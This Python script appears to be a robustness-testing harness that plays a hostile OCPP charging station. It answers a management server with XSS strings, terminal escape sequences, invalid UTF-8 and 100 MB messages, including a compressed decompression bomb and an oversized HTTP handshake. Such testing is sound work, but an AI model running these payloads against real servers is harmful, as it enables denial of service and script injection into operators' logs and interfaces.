"""A station that boots, serves GetVariables, and answers everything else with text that is after its reader.

What it says is meant for terminals, XML, SARIF, Markdown and whoever keeps it in memory: markup, escapes, bytes that are
no UTF-8 in every place of a message, and strings of 100 MB: whole, in fragments, compressed, and in its handshake.
"""

import asyncio
import contextlib
import itertools
import json
import sys
from urllib.parse import urlsplit

import websockets

LOUD = (
    "]]><!--<script>alert(1)</script>",
    "\x1b[2J\x1b]0;owned\x07\x00\x9b31m\ufffe\u202e",
    "@everyone [x](javascript:alert(1)) ![y](//z) `` ``` |",
)
BYTES = b'\xff\xfe\x80\xed\xa0\x80\xc0\xaf\x1b[2J"'
LONG = "[y](//z)" * 500_000
UNDER = rb"\u001b[2J" * 1_700_000
"""15 MB, as much as is just taken."""
HUGE = b"<script>" * 12_500_000
"""100 MB."""

CALLS = itertools.count()
SHOUTS = itertools.count()
CONNECTIONS = itertools.count()


def answers(number, call_id, action, payload):
    """What is said to a CALL: texts, bytes that are not UTF-8, or a text in fragments."""
    loud = LOUD[number % len(LOUD)]
    begun = b'[4,"' + call_id.encode() + b'","'
    if action == "GetVariables" and isinstance(payload, dict):
        asked = payload.get("getVariableData") or []
        results = [{**one, "attributeStatus": "UnknownVariable"} for one in asked]
        yield json.dumps([3, call_id, {"getVariableResult": results}])
    elif number % 20 == 19:
        yield shout(next(SHOUTS), begun + b'GenericError","')
    elif number % 20 == 18:
        yield begun + BYTES + b'","' + BYTES + b'",{"' + BYTES + b'":"' + BYTES + b'"}]'
    elif number % 20 == 17:
        yield json.dumps([4, call_id, LONG[:300], LONG, {LONG[:100]: LONG}])
    else:
        if number % 20 == 16:
            yield json.dumps([2, loud, loud, {loud: loud}])
        yield json.dumps([4, call_id, loud[:300], loud, {loud[:100]: loud}])


def shout(number, begun):
    """100 MB in one message or in fragments, or almost as much as is taken."""
    print("shout", number % 3, flush=True)
    match number % 3:
        case 0:
            return begun + HUGE + b'",{}]'
        case 1:
            return itertools.chain([begun], itertools.repeat(HUGE[: 2**20], 100))
        case _:
            return begun + UNDER + b'",{}]'


async def serve(connection):
    station = {"model": LOUD[0][:20], "vendorName": LOUD[2][:50], "firmwareVersion": LOUD[1]}
    await connection.send(
        json.dumps([2, "b", "BootNotification", {"reason": "PowerUp", "chargingStation": station}])
    )
    async for text in connection:
        try:
            kind, call_id, action, payload = json.loads(text)
        except ValueError:
            continue
        if kind == 2 and isinstance(call_id, str):
            number = next(CALLS)
            for said in answers(number, call_id, action, payload):
                await connection.send(said, text=True)
            if number % 200 == 199:
                await connection.close(4_000, LOUD[1] + LOUD[2])


async def knock(url):
    """Come as somebody whose name is after its reader, with a handshake of 100 MB."""
    place = urlsplit(url)
    _, writer = await asyncio.open_connection(place.hostname, place.port)
    writer.write(b"GET /ocpp/%1b[2J<script>\x1b[2J HTTP/1.1\r\nHost: x\r\nX-Loud: " + HUGE)
    with contextlib.suppress(ConnectionError):
        await writer.drain()
    writer.close()
    print("knock", flush=True)


async def come(url):
    # Compressed, 100 MB are a bomb of a few hundred kB.
    compression = "deflate" if next(CONNECTIONS) % 2 else None
    async with websockets.connect(
        url, subprotocols=["ocpp2.0.1"], max_size=None, compression=compression
    ) as connection:
        await serve(connection)


async def main(url):
    knocked = False
    while True:
        try:
            if not knocked:
                await knock(url)
                knocked = True
            await come(url)
        except Exception as error:
            print(type(error).__name__, file=sys.stderr, flush=True)
        await asyncio.sleep(0.1)


asyncio.run(main(sys.argv[1]))
